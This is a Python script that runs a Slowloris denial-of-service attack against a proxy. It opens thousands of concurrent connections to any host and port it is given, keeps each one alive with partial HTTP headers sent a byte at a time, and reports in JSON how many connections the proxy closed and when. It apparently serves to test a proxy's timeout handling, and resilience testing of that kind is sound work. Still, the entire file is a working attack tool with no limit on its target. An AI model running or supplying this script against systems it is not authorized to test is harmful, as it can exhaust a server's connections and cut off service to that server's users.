"""Slowloris against a proxy: N connections that each start a request head and then
send one more header byte every INTERVAL seconds, never finishing it. Prints, as JSON,
how many were opened, how many the proxy closed, and when (seconds after opening)."""

import argparse
import asyncio
import json
import time


async def one(host, port, interval, deadline, closed_after, refused):
    opened = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        refused.append(1)
        return
    try:
        writer.write(b"GET / HTTP/1.1\r\nHost: slow\r\nX-a: ")
        await writer.drain()
        while time.monotonic() < deadline:
            try:
                data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                if not data:
                    closed_after.append(time.monotonic() - opened)
                    return
                # An answer (a 408 or 431) counts as closed once the proxy hangs up.
                continue
            except asyncio.TimeoutError:
                pass
            writer.write(b"a")
            await writer.drain()
    except (ConnectionError, OSError):
        closed_after.append(time.monotonic() - opened)
        return
    finally:
        writer.close()


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--seconds", type=float, default=60.0)
    args = ap.parse_args()
    deadline = time.monotonic() + args.seconds
    closed_after, refused = [], []
    tasks = []
    for _ in range(args.connections):
        tasks.append(asyncio.create_task(
            one(args.host, args.port, args.interval, deadline, closed_after, refused)))
        await asyncio.sleep(0)
    await asyncio.gather(*tasks)
    closed_after.sort()
    pick = lambda q: round(closed_after[min(len(closed_after) - 1, int(q * len(closed_after)))], 1) if closed_after else None
    print(json.dumps({
        "connections": args.connections,
        "refused": len(refused),
        "closed_by_proxy": len(closed_after),
        "still_open_at_end": args.connections - len(refused) - len(closed_after),
        "closed_after_s": {"min": pick(0), "p50": pick(0.5), "max": pick(1.0)},
    }))


if __name__ == "__main__":
    asyncio.run(main())
